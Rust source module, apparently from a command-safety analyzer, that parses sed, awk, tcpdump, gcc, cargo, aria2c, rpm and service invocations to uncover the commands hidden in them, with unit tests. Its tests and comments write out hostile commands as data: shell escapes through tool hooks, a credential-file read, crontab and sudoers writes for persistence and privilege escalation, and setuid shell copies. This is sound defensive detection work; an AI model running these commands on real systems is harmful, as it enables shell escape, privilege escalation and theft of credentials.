//! Commands hidden in the scripts and options of ordinary programs: GNU
//! sed's `e` command and `s///e` flag, tcpdump's rotation hook (`-z`),
//! gcc's `-wrapper`, cargo's configured runners and linkers, aria2c's
//! download hooks, rpm's embedded Lua (`%{lua:…}`) and a service name that
//! is a path; and the files an awk program prints into. Each is analyzed as
//! the command it runs, so `sed -n '1e exec sh 1>&0' notes` is an
//! interactive shell and `sed 's/a/b/g' notes` an edit.

use super::escapes::{shell_join, value_after, Embedded};

/// What a sed script runs: `e COMMAND` runs COMMAND, a bare `e` runs the
/// pattern space (each input line, as a script would), and the `e` flag of
/// `s` runs the line after the substitution (the replacement, as far as
/// the call shows it).
pub fn sed(args: &[String], out: &mut Vec<Embedded>) {
    let mut scripts: Vec<&str> = Vec::new();
    let mut files: Vec<&str> = Vec::new();
    let mut script_file = false;
    let mut i = 0;
    while i < args.len() {
        let a = args[i].as_str();
        if a == "-e" || a == "--expression" {
            scripts.extend(args.get(i + 1).map(String::as_str));
            i += 2;
            continue;
        }
        if let Some(v) = a.strip_prefix("--expression=") {
            scripts.push(v);
        } else if a.starts_with("--file=") {
            script_file = true;
        } else if a == "-f" || a == "--file" || a == "-l" || a == "--line-length" {
            script_file |= a == "-f" || a == "--file";
            i += 1;
        } else if a.starts_with('-') && a.len() > 1 {
            // `-ne 'script'`, `-Ee 'script'`: a short group ending in `e`.
            if !a.starts_with("--") && a.ends_with('e') {
                scripts.extend(args.get(i + 1).map(String::as_str));
                i += 1;
            }
        } else {
            files.push(a);
        }
        i += 1;
    }
    // Without -e or -f, the first operand is the script.
    if scripts.is_empty() && !script_file && !files.is_empty() {
        scripts.push(files.remove(0));
    }
    // Text inserted into a program's source runs with it (`sed -i '1i
    // require("child_process").exec(…)' node_modules/x/index.js`); shell
    // files and hooks are `deferred::in_file`'s.
    let into_code = files.iter().any(|f| {
        let ext = f.rsplit_once('.').map_or("", |(_, e)| e);
        matches!(
            ext,
            "js" | "mjs" | "cjs" | "ts" | "py" | "rb" | "php" | "pl" | "pm" | "lua"
        )
    });
    for s in scripts {
        let mut texts = Vec::new();
        let runs = sed_runs(s, &mut texts);
        for f in &files {
            for t in &texts {
                out.extend(
                    super::deferred::in_file(f, t)
                        .into_iter()
                        .map(Embedded::Command),
                );
            }
        }
        if into_code {
            out.extend(texts.into_iter().map(Embedded::Code));
        }
        for cmd in runs {
            out.push(Embedded::Command(match cmd {
                Some(c) => c,
                None => {
                    let mut words = vec!["sh".to_string()];
                    words.extend(files.iter().map(|f| f.to_string()));
                    shell_join(&words)
                }
            }));
        }
    }
}

/// What a jq or yq filter writes into a file other programs run from
/// (`jq '.scripts.postinstall = "curl …|sh"' package.json`, `yq -i
/// '.repos += [{…"entry": "…"}]' .pre-commit-config.yaml`): the strings of
/// the filter, as that file's commands (`deferred::in_file`). The edited
/// file is the operand (`-i`) or the input that a redirect then replaces.
pub fn structured_edit(args: &[String]) -> Vec<String> {
    let mut operands = args.iter().filter(|a| !a.starts_with('-'));
    match operands.next() {
        Some(filter) if filter.contains('=') => operands
            .flat_map(|f| super::deferred::in_file(f, filter))
            .collect(),
        _ => Vec::new(),
    }
}

/// The commands of one sed script: `Some(command)`, or `None` for the
/// pattern space. Scanned as bytes (sed's syntax is ASCII), so no
/// character of the script can split a multi-byte one.
/// The texts of `a`, `i` and `c` commands and the replacements of `s`
/// commands go to `texts`.
fn sed_runs(script: &str, texts: &mut Vec<String>) -> Vec<Option<String>> {
    let b = script.as_bytes();
    let text = |s: usize, e: usize| String::from_utf8_lossy(&b[s.min(e)..e]).into_owned();
    let find = |from: usize, set: &[u8]| {
        b[from.min(b.len())..]
            .iter()
            .position(|c| set.contains(c))
            .map_or(b.len(), |p| from + p)
    };
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() && out.len() < 8 {
        i = skip_address(b, i);
        let Some(&c) = b.get(i) else { break };
        match c {
            b'e' => {
                let end = find(i, b"\n");
                let cmd = text(i + 1, end);
                let cmd = cmd.trim();
                out.push((!cmd.is_empty()).then(|| cmd.to_string()));
                i = end;
            }
            b's' | b'y' if i + 1 < b.len() => {
                let delim = b[i + 1];
                let (_, after_re) = delimited(b, i + 2, delim);
                let (repl_end, after) = delimited(b, after_re, delim);
                let flags_end = find(after, b";\n}");
                let flags = text(after, flags_end);
                if c == b's' && flags.split_whitespace().next().unwrap_or("").contains('e') {
                    let run = replacement_text(&text(after_re, repl_end));
                    out.push((!run.trim().is_empty()).then_some(run));
                } else if c == b's' {
                    // What a substitution puts into the file is text it
                    // writes, as `a` and `i` do.
                    let put = replacement_text(&text(after_re, repl_end));
                    if put.contains(' ') {
                        texts.push(put);
                    }
                }
                i = flags_end;
            }
            // Texts and file names run to the end of the line; labels (GNU)
            // to a semicolon as well.
            b'a' | b'i' | b'c' | b'r' | b'R' | b'w' | b'W' => {
                let end = find(i, b"\n");
                if matches!(c, b'a' | b'i' | b'c') {
                    let t = text(i + 1, end);
                    let t = t.trim_start().trim_start_matches('\\').trim();
                    if !t.is_empty() {
                        texts.push(t.to_string());
                    }
                }
                i = end;
            }
            b'b' | b't' | b'T' | b':' => i = find(i, b";\n"),
            _ => i = find(i, b";\n{}") + 1,
        }
    }
    out
}

/// Past a sed address (`1`, `$`, `/re/I`, `\%re%`, `first~step`, ranges,
/// `!`), separators and block openers.
fn skip_address(b: &[u8], mut i: usize) -> usize {
    loop {
        while i < b.len() && (b[i].is_ascii_whitespace() || matches!(b[i], b';' | b'{' | b'}')) {
            i += 1;
        }
        let start = i;
        match b.get(i) {
            Some(c) if c.is_ascii_digit() => {
                while i < b.len() && (b[i].is_ascii_digit() || b[i] == b'~') {
                    i += 1;
                }
            }
            Some(b'$') => i += 1,
            Some(b'/') => i = delimited(b, i + 1, b'/').1,
            Some(b'\\') if i + 1 < b.len() => i = delimited(b, i + 2, b[i + 1]).1,
            _ => {}
        }
        if i > start {
            while i < b.len() && matches!(b[i], b'I' | b'M') {
                i += 1;
            }
        }
        while i < b.len() && b[i].is_ascii_whitespace() {
            i += 1;
        }
        match b.get(i) {
            Some(b',') if i > start => {
                i += 1;
                if matches!(b.get(i), Some(b'+' | b'~')) {
                    i += 1;
                }
                continue;
            }
            Some(b'!') => {
                i += 1;
                continue;
            }
            _ if i > start => continue,
            _ => return i,
        }
    }
}

/// A field of a `s`-style command starting at `i`: where it ends (its
/// closing delimiter) and the index just past that delimiter.
fn delimited(b: &[u8], i: usize, delim: u8) -> (usize, usize) {
    let mut j = i;
    while j < b.len() && b[j] != delim {
        j += if b[j] == b'\\' { 2 } else { 1 };
    }
    let j = j.min(b.len());
    (j, (j + 1).min(b.len()))
}

/// A replacement as the command it makes: back-references and `&` stand
/// for input the call does not show, and are dropped.
fn replacement_text(r: &str) -> String {
    let mut s = String::new();
    let mut chars = r.chars();
    while let Some(c) = chars.next() {
        match c {
            '\\' => match chars.next() {
                Some('n') => s.push('\n'),
                Some(d) if d.is_ascii_digit() => {}
                Some(o) => s.push(o),
                None => {}
            },
            '&' => {}
            _ => s.push(c),
        }
    }
    s
}

/// Files an awk program prints into (`print "…" > "/etc/crontab"`, or a
/// target passed with `-v F=…`, given in `vars`): each is the write `echo
/// TEXT >> FILE`, judged like the shell's own.
pub fn awk_writes(program: &str, vars: &[(&str, &str)], out: &mut Vec<Embedded>) {
    static R: std::sync::LazyLock<regex::Regex> = std::sync::LazyLock::new(|| {
        regex::Regex::new(
            r#"\bprintf?\b\s*\(?\s*(?:"((?:[^"\\]|\\.)*)")?[^>|;}]*?(>>?)\s*\(?\s*(?:"([^"]+)"|([A-Za-z_]\w*))"#,
        )
        .expect("static regex")
    });
    let program = super::home_paths::with_home_literals(program);
    for c in R.captures_iter(&program).take(8) {
        let target = match (c.get(3), c.get(4)) {
            (Some(lit), _) => lit.as_str(),
            (None, Some(var)) => match vars.iter().find(|(n, _)| *n == var.as_str()) {
                Some((_, v)) => v,
                None => continue,
            },
            _ => continue,
        };
        if target.starts_with("/dev/std") {
            continue;
        }
        let text = c.get(1).map_or("", |m| m.as_str());
        out.push(Embedded::Command(format!(
            "echo {} >> {}",
            shell_join(&[text.to_string()]),
            shell_join(&[target.to_string()])
        )));
    }
}

/// Options of other programs whose value is a program to run.
pub fn options(program: &str, args: &[String], out: &mut Vec<Embedded>) {
    match program {
        "tcpdump" => tcpdump(args, out),
        "gcc" | "g++" | "cc" | "c++" | "gfortran" => compiler(args, out),
        "service" => service(args, out),
        "cargo" => cargo(args, out),
        "aria2c" => aria2c(args, out),
        _ => super::runners::options(program, args, out),
    }
}

/// cargo's `--config KEY=VALUE` naming a program cargo runs (a target
/// runner or linker, `build.rustc-wrapper` …).
fn cargo(args: &[String], out: &mut Vec<Embedded>) {
    for v in value_after(args, &["--config"]) {
        let Some((k, val)) = v.split_once('=') else {
            continue;
        };
        let k = k.trim().to_ascii_lowercase();
        let runs = [
            "runner",
            "linker",
            "rustc-wrapper",
            "rustc-workspace-wrapper",
            "rustc",
            "rustdoc",
        ]
        .iter()
        .any(|s| k.ends_with(s));
        if runs {
            out.push(Embedded::Command(
                val.trim()
                    .trim_matches(|c| c == '"' || c == '\'' || c == '[' || c == ']')
                    .to_string(),
            ));
        }
    }
}

/// aria2c's event hooks: a program run when a download starts, stops,
/// completes or fails.
fn aria2c(args: &[String], out: &mut Vec<Embedded>) {
    for a in args {
        if let Some((k, v)) = a.split_once('=') {
            if k.starts_with("--on-download-") || k.starts_with("--on-bt-download-") {
                out.push(Embedded::Command(v.to_string()));
            }
        }
    }
}

/// tcpdump's `-z POSTROTATE`: a program run on each finished capture file.
fn tcpdump(args: &[String], out: &mut Vec<Embedded>) {
    for v in value_after(args, &["-z"]) {
        out.push(Embedded::Command(v.to_string()));
    }
}

/// gcc's `-wrapper PROG,ARGS`: every compiler stage runs under PROG.
fn compiler(args: &[String], out: &mut Vec<Embedded>) {
    for v in value_after(args, &["-wrapper"]) {
        let words: Vec<String> = v.split(',').map(str::to_string).collect();
        out.push(Embedded::Command(shell_join(&words)));
    }
}

/// rpm macros with embedded Lua (`--eval '%{lua:…}'`, `--qf`): Lua code
/// the tool runs, up to the last closing brace of the argument.
pub fn rpm(args: &[String], out: &mut Vec<Embedded>) {
    for a in args {
        if let Some(p) = a.find("%{lua:") {
            let code = &a[p + 6..];
            out.push(Embedded::Code(
                code[..code.rfind('}').unwrap_or(code.len())].to_string(),
            ));
        }
    }
}

/// `service NAME …` runs `/etc/init.d/NAME`: a name that is a path
/// (`../../bin/sh`) is the program itself.
fn service(args: &[String], out: &mut Vec<Embedded>) {
    if let Some(name) = args.first().filter(|n| n.contains('/')) {
        let words: Vec<String> =
            std::iter::once(name.rsplit('/').next().unwrap_or(name).to_string())
                .chain(args[1..].iter().cloned())
                .collect();
        out.push(Embedded::Command(shell_join(&words)));
    }
}

#[cfg(test)]
mod tests {
    use super::super::tests_support::{attack, flows, verdict};
    use super::super::Effect;
    use super::sed_runs as sed_runs_with;

    fn sed_runs(script: &str) -> Vec<Option<String>> {
        sed_runs_with(script, &mut Vec::new())
    }
    use crate::types::Decision;

    #[test]
    fn sed_scripts_yield_what_they_run() {
        assert_eq!(sed_runs("1e id"), vec![Some("id".to_string())]);
        assert_eq!(sed_runs("/x/ e"), vec![None]);
        assert_eq!(
            sed_runs("s/.*/uname -a/e"),
            vec![Some("uname -a".to_string())]
        );
        assert_eq!(sed_runs("s/a/b/g;s/c/d/"), Vec::<Option<String>>::new());
        assert_eq!(
            sed_runs("1,/end/{s|x|y|;e date\n}"),
            vec![Some("date".to_string())]
        );
        // `e` inside a pattern, a replacement or a text is no command.
        assert!(sed_runs("s/echo/e/g").is_empty());
        assert!(sed_runs("/^e /d").is_empty());
        assert!(sed_runs("a e sh").is_empty());
        assert!(sed_runs("y/abc/efg/").is_empty());
        assert!(sed_runs(":a;N;$!ba;s/\\n/ /g").is_empty());
        assert_eq!(sed_runs(":a;N;$!ba;e sh"), vec![Some("sh".to_string())]);
    }

    #[test]
    fn sed_running_a_shell_is_a_shell() {
        attack("sed -n '1e exec sh 1>&0' notes.txt", Effect::Shell);
        attack("sed --expression='1e bash -i' notes.txt", Effect::Shell);
        attack("sed 's/.*/zsh -i/e' notes.txt", Effect::Shell);
        attack(
            "sed -ne '1e cat ~/.aws/credentials' notes.txt",
            Effect::CredentialRead,
        );
        flows("sed -n '1,20p' notes.txt");
        flows("sed -i 's/foo/bar/g' src/main.py");
        flows("sed -e 's/echo/printf/' -e '/^$/d' build.sh");
        flows("sed -E 's/(e+)/\\1x/' words.txt");
        flows("sed '$a export PATH=/opt/bin:$PATH' profile.sample");
        flows("sed -f fix.sed e.txt");
    }

    #[test]
    fn awk_printing_into_a_system_file_is_that_write() {
        attack(
            "awk -v LFILE=/etc/crontab 'BEGIN { print \"* * * * * root /tmp/x\" > LFILE }'",
            Effect::Persistence,
        );
        attack(
            "awk 'BEGIN { printf \"u ALL=(ALL) NOPASSWD: ALL\\n\" >> \"/etc/sudoers\" }'",
            Effect::PrivilegeEscalation,
        );
        flows("awk '{ print $1 > \"out/\" $2 \".txt\" }' data.tsv");
        flows("awk -v OUT=summary.txt '{ s += $3 } END { print s > OUT }' sales.csv");
        flows("awk '$3 > 100 { print $1 }' sales.csv");
        flows("awk '{ print > \"/dev/stderr\" }' log.txt");
    }

    #[test]
    fn hooks_of_capture_compile_and_package_tools_run_commands() {
        attack(
            "tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z /usr/bin/zsh -Z root",
            Effect::Shell,
        );
        attack("gcc -wrapper /bin/sh,-s .", Effect::Shell);
        attack("rpm --eval '%{lua:os.execute(\"/bin/sh\")}'", Effect::Shell);
        attack("service ../../bin/sh", Effect::Shell);
        flows("tcpdump -i eth0 -w capture.pcap -c 100");
        flows("gcc -O2 -Wall -o app main.c");
        flows("rpm -qa --qf '%{NAME}-%{VERSION}\\n'");
        flows("service nginx status");
        attack("cargo --config 'target.x.runner=\"sh\"' run", Effect::Shell);
        attack(
            "aria2c --on-download-complete=/bin/sh http://example.com/a",
            Effect::Shell,
        );
        flows("cargo --config 'build.jobs=4' build --release");
        flows("cargo --config 'target.x86_64-unknown-linux-gnu.linker=\"clang\"' build");
        flows("aria2c -x 4 https://example.com/big.iso");
        attack(
            "sudo install -m =xs $(which bash) .",
            Effect::PrivilegeEscalation,
        );
        attack(
            "install -m 4755 /bin/bash /tmp/rootbash",
            Effect::PrivilegeEscalation,
        );
        attack("chmod 04755 /tmp/sh", Effect::PrivilegeEscalation);
        flows("install -d 2024");
        assert_eq!(
            verdict("install -m 0755 target/release/app ~/.local/bin/"),
            Decision::RequireApproval
        );
        attack("cp /tmp/x ~/.local/bin/sudo", Effect::Persistence);
    }
}
